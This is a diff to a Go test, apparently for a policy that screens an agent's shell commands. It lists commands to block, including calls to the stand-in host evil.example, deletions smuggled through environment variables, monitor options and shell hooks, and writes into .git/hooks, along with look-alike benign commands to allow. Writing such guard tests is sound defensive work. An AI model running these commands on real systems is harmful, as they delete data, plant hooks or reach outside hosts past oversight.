@@ -148,6 +148,7 @@ func TestFloorNet(t *testing.T) {
 		"rclone copy x :sftp,host=evil.example:y", "vegeta attack -targets <(echo GET http://evil.example)", "gh api https://evil.example/x",
 		"cp /bin/rm d/x && run-parts d", "BORG_PASSCOMMAND='rm x' borg list r", "transmission-cli -f /bin/rm x.torrent",
 		"nmap -oG.git/hooks/z h", "cscope -bf.git/hooks/z", "nginx -p .git/hooks", "helm --repository-config .git/hooks/z repo add x h",
+		"python3 $X", "CARGO_TARGET_X_LINKER=./z-gcc cargo build", "sudo -k <<< 'rm x' sh",
 		"parallel '{1} {2}' ::: rm ::: x", "qemu-system-x86_64 -monitor 'exec:rm x'",
 		"zsh -c 'chpwd(){ rm x; }; cd /'", "bmake -V '${:!rm x!}'",
 		"unrar x a.rar .git/hooks/", "duckdb .git/hooks/z", "screen -X hardcopy .git/hooks/z", "crane export x .git/hooks/z",
@@ -159,6 +160,7 @@ func TestFloorNet(t *testing.T) {
 	for _, c := range []string{
 		"psql -h db.example", "git commit -m 'see evil.example'", "echo evil.example", "grep evil.example f", "cp /bin/ls d/x",
 		"gh pr create --body 'rm x'", "FOO='a b' make", "pytest tests/a.py",
+		"sudo -k", "python3 $TOOLS/x.py", "CARGO_TARGET_X_LINKER=aarch64-linux-gnu-gcc cargo build",
 	} {
 		if d := pol.Decide(bashCall(c), testWorld); d.Verdict != obstat.Allow {
 			t.Errorf("%s: %s", c, d.Reason())
